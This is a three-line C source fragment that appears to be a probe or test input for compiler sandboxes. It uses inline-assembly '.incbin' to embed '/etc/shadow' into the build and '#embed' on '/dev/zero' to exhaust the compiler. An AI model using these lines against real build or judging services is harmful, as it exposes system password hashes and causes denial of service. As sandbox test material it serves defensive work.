__asm__(".incbin \"/etc/shadow\"");
#embed "/dev/zero"
#pragma GCC dependency "x"
